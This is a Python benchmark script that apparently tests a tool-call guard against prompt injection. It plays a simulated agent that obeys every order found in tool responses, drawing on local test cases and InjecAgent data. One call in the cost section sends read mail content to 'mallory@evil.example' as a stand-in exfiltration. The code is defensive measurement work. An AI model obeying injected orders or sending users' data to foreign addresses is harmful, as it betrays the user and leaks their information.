"""A model that obeys every order it reads does nothing that nobody wanted, and ordinary tasks are done with few questions asked.

    python -m benchmarks.hostile_tools [DATA]

The model, its world and its cases are those of `tests/hostile.py`. DATA may hold injection_train.jsonl with the tool responses of
InjecAgent (MIT), which are played as well; there, the model has a tool for whatever it cannot make out. A person answers the
questions, and agrees only to what they recognise as their own wish. The rules stand beside what others do: nothing, a list of
tools with schemas, and a question for every call that changes something.
"""

from __future__ import annotations

import argparse
import importlib
import json
import statistics
import sys
import time
from collections import Counter, defaultdict
from collections.abc import Callable, Mapping, Sequence
from dataclasses import replace
from pathlib import Path
from typing import Any

from benchmarks.measure import show, versions, write
from penstock.guard.tools import CallGate, Tool, ToolCall, ToolRules, check
from penstock.types import Stopped, TextDelta, ToolCallDelta, Usage

sys.path.insert(0, str(Path(__file__).parent.parent / "tests"))
hostile: Any = importlib.import_module("hostile")

COLUMNS = {"cases": "cases", "with an order obeyed": "tried", "harm done": "harmed", "wanted effects done": "done",
           "questions": "asked", "calls refused": "refused"}  # fmt: skip


def main() -> None:
    parser = argparse.ArgumentParser(description=(__doc__ or "").splitlines()[0])
    parser.add_argument("data", type=Path, nargs="?")
    parser.add_argument("--cases", type=int, default=10_000)
    arguments = parser.parse_args()
    rules: ToolRules = hostile.RULES
    compared: Mapping[str, ToolRules] = {
        "these rules": rules,
        "a question for every write": ToolRules({name: _asking(tool) for name, tool in rules.tools.items()}),
        "a list of tools, with schemas": ToolRules(dict.fromkeys(rules.tools, hostile.FREE_FOR_ALL.tools["run_shell"])),
        "nothing": hostile.FREE_FOR_ALL,
    }
    injected, benign = hostile.injected(arguments.cases), hostile.benign()
    found = {f"{name}: injected": _played(injected, used) for name, used in compared.items()}
    found |= {f"{name}: ordinary tasks": _played(benign, used) for name, used in compared.items()}
    if arguments.data:
        responses = _responses(arguments.data / "injection_train.jsonl")
        found |= {f"{name}: InjecAgent": _played(responses, used) for name, used in compared.items()}
    show("calls of tools", COLUMNS, found)
    kinds = _kinds(benign, rules)
    show("ordinary tasks under these rules", {"tasks": "tasks", "done": "done", "questions per task": "asked"}, kinds)
    costs = _costs(rules)
    show("CPU time", {"median": "median", "unit": "unit"}, costs)
    figures = {"versions": versions(("penstock", "google-re2")), "played": found, "ordinary": kinds, "cost": costs}
    write("hostile_tools", claim=__doc__, command="python -m benchmarks.hostile_tools DATA", figures=figures)


def _asking(tool: Tool) -> Tool:
    """What many agents do: a person agrees to each call that changes something, and reading is free."""
    if tool.effect == "read":
        return replace(tool, foreign="allow", hosts=("*.example",))
    return replace(tool, confirm="always")


def _played(cases: Sequence[Any], rules: ToolRules) -> dict[str, Any]:
    outcomes = [hostile.play(case, rules) for case in cases]
    return {
        "cases": len(cases),
        "tried": sum(outcome.attempts > 0 for outcome in outcomes),
        "harmed": sum(bool(outcome.unauthorised) for outcome in outcomes),
        "done": sum(outcome.done for outcome in outcomes),
        "asked": sum(outcome.asked for outcome in outcomes),
        "agreed": sum(outcome.agreed for outcome in outcomes),
        "refused": sum(outcome.refused for outcome in outcomes),
        "harm": dict(Counter(kind for outcome in outcomes for kind, _ in outcome.unauthorised).most_common()),
    }


def _kinds(cases: Sequence[Any], rules: ToolRules) -> dict[str, dict[str, Any]]:
    outcomes = defaultdict(list)
    for case in cases:
        outcomes[case.kind].append(hostile.play(case, rules))
    return {
        kind: {"tasks": len(all_of), "done": sum(o.done for o in all_of), "asked": sum(o.asked for o in all_of) / len(all_of)}
        for kind, all_of in outcomes.items()
    }  # fmt: skip


def _responses(path: Path) -> list[Any]:
    rows = [json.loads(line) for line in path.read_bytes().splitlines()]
    texts = [row["text"] for row in rows if "injecagent" in row["source"].lower() and row["label"] == 1]
    return [hostile.from_tool_response(text, n) for n, text in enumerate(texts)]


# ---------------------------------------------------------------- what it costs


def _costs(rules: ToolRules) -> dict[str, dict[str, Any]]:
    page = ("The quick brown fox jumps over the lazy dog, and nobody minds at all. " * 600)[: 32 << 10]
    asked = {"role": "user", "content": "Read my mail and send the gist to bob@corp.example."}
    call = {"id": "1", "type": "function", "function": {"name": "read_mail", "arguments": "{}"}}
    read = {"role": "assistant", "content": None, "tool_calls": [call]}
    body = {"messages": [asked, read, {"role": "tool", "tool_call_id": "1", "content": page}], "tools": hostile.TOOLS}
    own = ToolCall("send_email", {"to": "bob@corp.example", "body": page[:500]})
    foreign = ToolCall("send_email", {"to": "mallory@evil.example", "body": page[:500]})
    deltas = [TextDelta("word ") for _ in range(10_000)]

    def stream() -> None:
        gate = CallGate(rules, body, "chat")
        for delta in deltas:
            gate.feed(delta)
        gate.feed(Stopped(Usage()))

    def gated() -> None:
        gate = CallGate(rules, body, "chat")
        said = json.dumps(own.arguments)
        gate.feed(ToolCallDelta(0, "", "id", "send_email"))
        for at in range(0, len(said), 12):
            gate.feed(ToolCallDelta(0, said[at : at + 12]))
        gate.feed(Stopped(Usage()))

    return {
        "a piece of a stream without calls": {"median": _median(stream) / len(deltas) * 1e6, "unit": "µs"},
        "a streamed call of 550 bytes, 32 KB read": {"median": _median(gated) * 1e3, "unit": "ms"},
        "a call in the user's words, 32 KB read": {
            "median": _median(lambda: check(own, rules.context(body, "chat"), rules)) * 1e3,
            "unit": "ms",
        },
        "a call with a foreign address, 32 KB read": {
            "median": _median(lambda: check(foreign, rules.context(body, "chat"), rules)) * 1e3,
            "unit": "ms",
        },
    }


def _median(run: Callable[[], object], times: int = 31) -> float:
    taken = []
    for _ in range(times):
        started = time.process_time()
        run()
        taken.append(time.process_time() - started)
    return statistics.median(taken)


if __name__ == "__main__":
    main()
